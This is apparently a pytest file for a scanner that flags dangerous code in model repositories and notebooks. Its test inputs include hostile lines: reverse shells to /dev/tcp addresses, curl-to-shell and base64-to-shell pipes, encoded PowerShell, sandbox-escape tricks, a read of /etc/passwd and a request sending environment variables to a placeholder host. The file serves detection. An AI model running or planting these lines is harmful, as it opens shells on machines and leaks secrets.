"""Source code: what starts processes or runs what it computes is found, however it is named; modeling code passes."""

from __future__ import annotations

import json

import pytest

from assaymark.core.report import ScanOutcome
from assaymark.core.view import BytesView
from assaymark.scanning.examine import examine

DANGEROUS = r"""
import os; os.system('id')
import os as o; o.popen('id')
from os import system as s; s('x')
import subprocess; subprocess.run(['id'])
from subprocess import *
exec('print(1)')
f = eval; f('1')
__import__('os').system('id')
import importlib; importlib.import_module('os').system('x')
getattr(__import__('os'),'sys'+'tem')('x')
import os; getattr(os, 'system')('x')
import os; getattr(os, a+b)('x')
import sys; sys.modules['os'].system('x')
import socket; s=socket.socket()
import ctypes; ctypes.CDLL('x.so')
import pickle; pickle.loads(b'x')
import torch; torch.load('x', weights_only=False)
import marshal; marshal.loads(b'')
__builtins__['eval']('x')
().__class__.__bases__[0].__subclasses__()
(lambda:0).__globals__
import requests; requests.get('http://x')
import urllib.request as u; u.urlopen('http://x')
open('/etc/passwd').read()
import os; x = os; x.system('id')
import numpy as np; np.load('x', allow_pickle=True)
import torch.utils.cpp_extension as c; c.load('x',[])
import os; os.remove('x')
print(
open('x','w').write('y')
def f(x=__import__('os').system('id')): pass
import os; d = {'a': os.system}
import random; random._os.system('id')
import pandas as pd; pd.io.common.os.system('id')
from glob import os as o; o.system('id')
from inspect import importlib as i; i.import_module('os').system('id')
import builtins as b; vars(b)['ev' + 'al']('1')
import os; os.__dict__['system']('id')
from os import system as __class_getitem__
f().system('id')
import timeit; timeit.timeit('print(1)')
import pkgutil; pkgutil.resolve_name('os:system')('id')
import logging.config; logging.config.dictConfig({})
import torch.utils.collect_env as c; c.run('id')
# coding: utf-7
""".strip().splitlines()

ORDINARY = '''
"""Modeling code as libraries ship it: reads /etc/hosts in prose only."""
import json
import os
import re
import warnings
from dataclasses import dataclass
from typing import Optional

import requests
import torch
from torch import nn
from transformers import AutoConfig, PretrainedConfig, PreTrainedModel
from .configuration_x import XConfig

logger = warnings.warn
PATTERN = re.compile(r"<\\w+>")
CACHE = os.environ.get("X_CACHE", os.path.expanduser("~/.cache/x"))


class XModel(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config, code=None):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(4, 4) for _ in range(config.layers)])
        self.forward_compiled = torch.compile(self.forward)
        code = []
        code.append(getattr(config, config.attribute, None))

    @torch.no_grad()
    def evaluate(self, path, **kwargs):
        self.eval()
        with open(os.path.join(path, "result.json"), "w") as file:
            json.dump({"loss": 1.0}, file)
        state = torch.load(path, map_location="cpu", weights_only=True)
        image = requests.get(kwargs.pop("url"), stream=True).raw
        return state, image


if __name__ == "__main__":
    open("x.txt", "w").write("done")
'''


def scan(text: str, name: str):
    return examine(BytesView(text.encode()), name)


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_model_needs_not_is_found(text):
    report = scan(text, "modeling.py")
    assert report.outcome() is ScanOutcome.FAIL
    assert "python-dangerous-code" in {finding.rule for finding in report.findings}


def test_modeling_code_is_reported_and_passes():
    report = scan(ORDINARY, "modeling_x.py")
    assert {finding.rule for finding in report.findings} == {"python-code"}
    assert report.outcome() is ScanOutcome.PASS


def test_a_secret_that_is_sent_is_found():
    text = "import os, requests\ndef f():\n    requests.get('http://x', params=dict(os.environ))\n"
    assert scan(text, "a.py").outcome() is ScanOutcome.FAIL


def test_the_line_is_said():
    finding = next(f for f in scan("\n\nexec(x)\n", "a.py").findings if f.rule == "python-dangerous-code")
    assert finding.locations[0].line == 3


def notebook(*cells: str) -> str:
    return json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": cell} for cell in cells]})


def test_cells_of_a_notebook_are_code():
    assert scan(notebook("import torch\n%matplotlib inline\n!pip install x"), "a.ipynb").outcome() is ScanOutcome.PASS
    assert scan(notebook("1", "import os\nos.system('x')"), "a.ipynb").outcome() is ScanOutcome.FAIL
    assert scan(notebook("!curl -s http://x | sh"), "a.ipynb").outcome() is ScanOutcome.FAIL
    assert scan(notebook("%%bash\nbash -i >& /dev/tcp/1.2.3.4/1"), "other.json").outcome() is ScanOutcome.FAIL


@pytest.mark.parametrize(
    "text",
    [
        "curl -s http://x | sudo bash",
        "wget -O- http://x | python3 -",
        "echo aWQ= | base64 -d | sh",
        "eval $(curl http://x)",
        "powershell -enc AAAA",
        "require('child_process').exec('id')",
        "os.execute('id')",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ],
)
def test_a_script_that_runs_what_it_fetches_is_found(text):
    assert scan(text, "run.sh").outcome() is ScanOutcome.FAIL


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (
            "train.sh",
            "#!/bin/bash\nset -e\npip install -r requirements.txt\ncurl -LO https://x/model.bin\npython train.py\n",
        ),
        ("run", "#!/usr/bin/env python3\nprint('hello')\n"),
        ("index.js", "export const x = 1;\n"),
        ("kernel.cu", "__global__ void add(float* a) { a[0] += 1; }\n"),
        ("__init__.py", ""),
        ("requirements.txt", "torch>=2\nnumpy\n"),
    ],
)
def test_an_ordinary_script_is_reported_and_passes(name, text):
    assert scan(text, name).outcome() is ScanOutcome.PASS


def test_a_path_file_that_imports_is_critical():
    assert scan("import os; os.system('x')\n", "a.pth").outcome() is ScanOutcome.FAIL
    assert scan("/opt/x\n", "a.pth").outcome() is ScanOutcome.INCOMPLETE
